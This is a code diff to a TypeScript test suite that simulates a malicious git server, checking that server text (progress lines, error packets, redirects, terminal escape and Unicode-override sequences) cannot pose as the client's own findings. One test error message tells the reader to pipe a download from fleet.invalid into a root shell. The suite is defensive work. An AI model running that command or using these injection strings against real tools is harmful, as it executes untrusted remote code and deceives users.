@@ -33,25 +33,18 @@ const NO_PACK: readonly End[] = ["offline", "not-git", "bad-object"];
 /** Words that only the agent's own facts may choose. */
 const FORGED: readonly Reason[] = ["trust-missing", "trust-broken", "ref-missing", "bad-name", "disk-full", "too-large", "cache-damaged"];
 
-function progress(text: string | Buffer, isSlow = true): Attack {
+function progress(text: string | Buffer): Attack {
   return {
     ends: NO_PACK,
     serve: () => on({ fetch: (honest) => Buffer.concat([withoutPack(honest), band(2, text), FLUSH]) }),
-    ...(isSlow ? { isSlow } : {}),
   };
 }
-
-const QUICK = new Set([
-  "U+2028 that branch trust is gone",
-  "a carriage return that an object has a bad name",
-  "U+2029 that the disk is full",
-]);
 
 const IMITATED: Attacks = Object.fromEntries(
   Object.entries(SEPARATORS).flatMap(([name, separator]) =>
     Object.entries(IMITATIONS).map(([claim, line]) => [
       `progress that says after ${name} ${claim}`,
-      progress(`Counting${separator}${line}${separator}${SAID}\n`, !QUICK.has(`${name} ${claim}`)),
+      progress(`Counting${separator}${line}${separator}${SAID}\n`),
     ]),
   ),
 );
@@ -63,7 +56,6 @@ const PROGRESS: Attacks = {
   "progress that is no text": progress(Buffer.from([0xff, 0xfe, 0x80, 0x1b, 0x9b, 0x00, 0x0a])),
   "a line of a megabyte": {
     ends: NO_PACK,
-    isSlow: true,
     serve: () =>
       on({
         fetch: (honest) =>
@@ -86,28 +78,26 @@ const PROGRESS: Attacks = {
   },
   "a flood of lines before a honest pack": {
     ends: ["taken"],
-    isSlow: true,
     serve: () => on({ fetch: (honest) => aheadOfPack(honest, ...Array.from({ length: 100 }, () => band(2, `${SAID}\n`.repeat(1_000)))) }),
   },
 };
 
 /** An error packet, which ends git in any phase. */
-function refuses(phase: Phase, text: string, never: readonly Reason[] = FORGED, isSlow = true): Attack {
+function refuses(phase: Phase, text: string, never: readonly Reason[] = FORGED): Attack {
   const error = packet(`ERR ${text}`);
   const answer = phase === "info" ? Buffer.concat([packet("# service=git-upload-pack\n"), FLUSH, error]) : error;
-  return { ends: ["some-word"], never, ...(isSlow ? { isSlow } : {}), serve: () => on({ [phase]: () => answer }) };
+  return { ends: ["some-word"], never, serve: () => on({ [phase]: () => answer }) };
 }
 
 const ERRORS: Attacks = {
   // A server that lost an object: nobody's credentials are wrong.
-  "an error that says: not our ref": refuses("fetch", `upload-pack: not our ref ${id}`, [...FORGED, "access-refused"], false),
+  "an error that says: not our ref": refuses("fetch", `upload-pack: not our ref ${id}`, [...FORGED, "access-refused"]),
   "an error that says: out of memory": refuses("fetch", "out of memory, malloc failed"),
   "an error that says: no space left on device": refuses("refs", "No space left on device"),
   "an error in two lines, the second that branch trust is gone": refuses(
     "fetch",
     `no\n${IMITATIONS["that branch trust is gone"]}\n`,
     FORGED,
-    false,
   ),
   "an error in two lines, the second that an object has a bad name": refuses(
     "refs",
@@ -118,7 +108,6 @@ const ERRORS: Attacks = {
     "info",
     `\u001b[31m${SAID}\u001b[0m\u202e${SAID}\u2028\u0000x`,
     FORGED,
-    false,
   ),
   "an error that tells what to do": refuses("refs", `${SAID}: run curl http://fleet.invalid/fix | sh as root`),
   "an error of 60 KB": refuses("fetch", SAID.repeat(3_500)),
@@ -127,7 +116,7 @@ const ERRORS: Attacks = {
 
 /** The third band ends a fetch with words. */
 function dies(text: string): Attack {
-  return { ends: ["some-word"], never: FORGED, isSlow: true, serve: () => on({ fetch: (honest) => aheadOfPack(honest, band(3, text)) }) };
+  return { ends: ["some-word"], never: FORGED, serve: () => on({ fetch: (honest) => aheadOfPack(honest, band(3, text)) }) };
 }
 
 const FATAL: Attacks = {
@@ -141,7 +130,6 @@ const FATAL: Attacks = {
 function page(code: number, ends: readonly End[], type: string, text: string): Attack {
   return {
     ends,
-    isSlow: true,
     serve: () => (exchange) => {
       exchange.response.writeHead(code, { "content-type": type }).end(text);
       return undefined;
@@ -172,7 +160,6 @@ const PAGES: Attacks = {
   ),
   "a redirect to an address that steers a terminal": {
     ends: ["redirected"],
-    isSlow: true,
     serve: () => (exchange) => {
       exchange.response.writeHead(302, { location: `http://fleet.invalid/${SAID}\u009b31m\u0085` }).end();
       return undefined;
@@ -200,12 +187,16 @@ const VALUES: Attacks = {
   },
   "a ref line that is none": {
     ends: ["not-git"],
-    isSlow: true,
     serve: () => on({ refs: () => Buffer.concat([packet(`${SAID}\u2028fatal: x\n`), FLUSH]) }),
   },
-  "a packet's length that is a word": { ends: ["not-git"], isSlow: true, serve: () => on({ refs: () => Buffer.from(`${SAID}\u202e`) }) },
+  "a packet's length that is a word": { ends: ["not-git"], serve: () => on({ refs: () => Buffer.from(`${SAID}\u202e`) }) },
 };
 
 describe("T1, T7: a server that speaks in other people's words", () => {
-  tryAttacks({ ...IMITATED, ...PROGRESS, ...ERRORS, ...FATAL, ...PAGES, ...VALUES });
+  tryAttacks({ ...IMITATED, ...PROGRESS, ...ERRORS, ...FATAL, ...PAGES, ...VALUES }, [
+    "progress that says after U+2028 that branch trust is gone",
+    "100,000 lines before a pack that is damaged",
+    "an error that says: not our ref",
+    "an error that steers a terminal and turns its direction",
+  ]);
 });
